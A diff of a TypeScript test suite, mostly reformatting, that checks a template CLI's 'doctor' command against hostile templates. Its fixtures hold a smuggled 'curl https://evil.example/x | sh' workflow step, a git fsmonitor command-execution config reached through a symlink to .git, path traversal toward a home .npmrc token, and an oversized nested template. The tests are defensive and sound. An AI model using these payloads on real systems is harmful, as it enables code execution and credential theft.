@@ -20,7 +20,12 @@ function world(): { root: string; svc: string } {
 }
 
 /** A service laid out by hand (as a repository could be): files, `.paved.yml`, committed. */
-async function service(dir: string, files: Record<string, string>, record: Record<string, unknown>, links: Record<string, string> = {}): Promise<void> {
+async function service(
+  dir: string,
+  files: Record<string, string>,
+  record: Record<string, unknown>,
+  links: Record<string, string> = {},
+): Promise<void> {
   writeFiles(dir, { ...files, ".paved.yml": stringify({ template: "evil", version: "1.0.0", answers: {}, ...record }) });
   for (const [link, target] of Object.entries(links)) symlinkSync(target, path.join(dir, link));
   await git(dir, ["init", "--quiet", "--initial-branch", "main"]);
@@ -59,7 +64,7 @@ describe("doctor renders with the answers upgrade would (item 1)", () => {
   const template = (): string => {
     const src = source({
       manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true }], files: { managed: ["**/config"] } },
-      files: { "{{#if token}}cfg{{else}}x{{/if}}/config": "[core]\n\tfsmonitor = \"touch PWNED\"\n" },
+      files: { "{{#if token}}cfg{{else}}x{{/if}}/config": '[core]\n\tfsmonitor = "touch PWNED"\n' },
     });
     symlinkSync(".git", path.join(src, "evil/1.0.0/files/x"));
     return src;
@@ -68,7 +73,7 @@ describe("doctor renders with the answers upgrade would (item 1)", () => {
   it("doctor --fix neither expects nor restores the file a missing secret would have placed (no write into .git)", async () => {
     const w = world();
     const src = template();
-    await service(w.svc, { "cfg/config": "[core]\n\tfsmonitor = \"touch PWNED\"\n" }, { source: src }, { x: ".git" });
+    await service(w.svc, { "cfg/config": '[core]\n\tfsmonitor = "touch PWNED"\n' }, { source: src }, { x: ".git" });
     const gitConfig = readFileSync(path.join(w.svc, ".git/config"), "utf8");
     const before = snapshot(w.root);
 
@@ -100,7 +105,15 @@ describe("recorded answers are validated before anything renders with them (item
   const injected = "team-a\n      - run: curl https://evil.example/x | sh #";
   const version: FixtureVersion = {
     manifest: {
-      questions: [{ name: "namespace", type: "input", message: "Namespace", pattern: "^[a-z][a-z0-9-]{1,30}$", patternHint: "lowercase letters, digits and dashes" }],
+      questions: [
+        {
+          name: "namespace",
+          type: "input",
+          message: "Namespace",
+          pattern: "^[a-z][a-z0-9-]{1,30}$",
+          patternHint: "lowercase letters, digits and dashes",
+        },
+      ],
       files: { managed: [".github/workflows/*.yml"] },
     },
     files: { ".github/workflows/ci.yml": "jobs:\n  test:\n    steps:\n      - run: deploy --namespace {{namespace}}\n" },
@@ -129,7 +142,9 @@ describe("recorded answers are validated before anything renders with them (item
     const { w, before } = await hostile();
     const result = await runCli(["doctor", w.svc, "--json"]);
     expect(result.exitCode, result.stderr).toBe(1);
-    const manifest = (JSON.parse(result.stdout) as { findings: Array<{ check: string; status: string; message: string }> }).findings.find((f) => f.check === "paved/manifest")!;
+    const manifest = (JSON.parse(result.stdout) as { findings: Array<{ check: string; status: string; message: string }> }).findings.find(
+      (f) => f.check === "paved/manifest",
+    )!;
     expect(manifest.status).toBe("fail");
     expect(manifest.message).toMatch(/answers\.namespace/);
     expect(result.stdout).not.toContain("curl https://evil.example/x | sh\n");
@@ -171,25 +186,43 @@ describe("data checks read only inside the service (item 4)", () => {
     const w = world();
     writeFiles(w.root, { "home/.npmrc": secretFile });
     const target = file === "<abs>" ? path.join(w.root, "home/.npmrc") : file;
-    const src = source({ manifest: { questions: [{ name: "dir", type: "input", message: "Dir" }], checks: [check(target)] }, files: { "README.md": "r\n" } });
+    const src = source({
+      manifest: { questions: [{ name: "dir", type: "input", message: "Dir" }], checks: [check(target)] },
+      files: { "README.md": "r\n" },
+    });
     await service(w.svc, { "README.md": "r\n" }, { source: src, answers: { dir: "../../home" } }, links);
     for (const output of await runAllFormats(w.svc)) {
       expect(output).not.toContain(npmToken);
       expect(output).not.toContain("registry.npmjs.org");
     }
     const json = await runCli(["doctor", w.svc, "--json"]);
-    const finding = (JSON.parse(json.stdout) as { findings: Array<{ check: string; message: string }> }).findings.find((f) => f.check === "evil/read")!;
+    const finding = (JSON.parse(json.stdout) as { findings: Array<{ check: string; message: string }> }).findings.find(
+      (f) => f.check === "evil/read",
+    )!;
     expect(finding.message).toMatch(/^refused: the check reads .* (contains "\.\."|is absolute|resolves outside the service)/);
   });
 
   it("checks that read files are refused when .paved.yml's source is a template inside the service", async () => {
     const w = world();
     const inside = path.join(w.svc, "templates");
-    makeSource({ evil: { "1.0.0": { manifest: { checks: [check("notes.txt"), { id: "evil/exists", type: "file-exists", file: "notes.txt", message: "notes exist" }] }, files: { "README.md": "r\n" } } } }, inside);
+    makeSource(
+      {
+        evil: {
+          "1.0.0": {
+            manifest: {
+              checks: [check("notes.txt"), { id: "evil/exists", type: "file-exists", file: "notes.txt", message: "notes exist" }],
+            },
+            files: { "README.md": "r\n" },
+          },
+        },
+      },
+      inside,
+    );
     await service(w.svc, { "README.md": "r\n", "notes.txt": `${secretFile}` }, { source: "./templates" });
     for (const output of await runAllFormats(w.svc)) expect(output).not.toContain(npmToken);
     const json = await runCli(["doctor", w.svc, "--json"]);
-    const findings = (JSON.parse(json.stdout) as { findings: Array<{ check: string; status: string; message: string; fix?: string }> }).findings;
+    const findings = (JSON.parse(json.stdout) as { findings: Array<{ check: string; status: string; message: string; fix?: string }> })
+      .findings;
     const read = findings.find((f) => f.check === "evil/read")!;
     expect(read.status).toBe("fail");
     expect(read.message).toMatch(/^refused: the check reads notes\.txt, but the template .* lives inside the service itself/);
@@ -211,8 +244,12 @@ describe("one redaction for every doctor output (item 8)", () => {
       expect(result.stdout, format).not.toContain(password);
     }
     const json = await runCli(["doctor", w.svc, "--json"]);
-    const drift = (JSON.parse(json.stdout) as { findings: Array<{ check: string; diff?: string }> }).findings.find((f) => f.check === "paved/managed-drift")!;
-    expect(drift.diff).toMatch(/\+DB_PASSWORD=\[redacted "T… \(\d+ characters\)\]|\+\[redacted DB_PASSWORD="Tr… \(\d+ characters\)\]|\+\[redacted Tr… \(\d+ characters\)\]/);
+    const drift = (JSON.parse(json.stdout) as { findings: Array<{ check: string; diff?: string }> }).findings.find(
+      (f) => f.check === "paved/managed-drift",
+    )!;
+    expect(drift.diff).toMatch(
+      /\+DB_PASSWORD=\[redacted "T… \(\d+ characters\)\]|\+\[redacted DB_PASSWORD="Tr… \(\d+ characters\)\]|\+\[redacted Tr… \(\d+ characters\)\]/,
+    );
   });
 });
 
@@ -231,7 +268,10 @@ describe("render refuses what would corrupt output or hang (low items)", () => {
 
   it("{{log}} in a data check cannot corrupt doctor --json", async () => {
     const w = world();
-    const src = source({ manifest: { checks: [{ id: "evil/log", type: "file-exists", file: '{{log "::error::x"}}README.md', message: "m" }] }, files: { "README.md": "r\n" } });
+    const src = source({
+      manifest: { checks: [{ id: "evil/log", type: "file-exists", file: '{{log "::error::x"}}README.md', message: "m" }] },
+      files: { "README.md": "r\n" },
+    });
     await service(w.svc, { "README.md": "r\n" }, { source: src });
     const result = await runCli(["doctor", w.svc, "--json"]);
     expect(() => JSON.parse(result.stdout)).not.toThrow();
@@ -241,7 +281,10 @@ describe("render refuses what would corrupt output or hang (low items)", () => {
   it("a deeply nested template is refused at once (exit 2, names the file)", async () => {
     const w = world();
     const depth = 12_000; // ~200 KB: minutes in Handlebars' parser
-    const src = source({ manifest: { questions: [{ name: "a", type: "confirm", message: "A", default: true }] }, files: { "deep.txt": `${"{{#if a}}".repeat(depth)}x${"{{/if}}".repeat(depth)}\n` } });
+    const src = source({
+      manifest: { questions: [{ name: "a", type: "confirm", message: "A", default: true }] },
+      files: { "deep.txt": `${"{{#if a}}".repeat(depth)}x${"{{/if}}".repeat(depth)}\n` },
+    });
     const before = snapshot(w.root);
     const started = Date.now();
     const result = await runCli(["new", "evil", w.svc, "--source", src, "--no-git", "--yes"], { timeout: 30_000 });
@@ -255,7 +298,10 @@ describe("render refuses what would corrupt output or hang (low items)", () => {
   it("a secret answer is never echoed in a validation error", async () => {
     const w = world();
     const token = j("ghp_", "R4nd0mL00k1ngT0k3n", "Abcdefghij1234567890");
-    const src = source({ manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true, pattern: "^tok-[0-9]+$" }] }, files: { "README.md": "r\n" } });
+    const src = source({
+      manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true, pattern: "^tok-[0-9]+$" }] },
+      files: { "README.md": "r\n" },
+    });
     const result = await runCli(["new", "evil", w.svc, "--source", src, "--no-git", "--set", `token=${token}`]);
     expect(result.exitCode).toBe(2);
     expect(result.stderr).toMatch(/--set token=\*\*\*.*must match/);
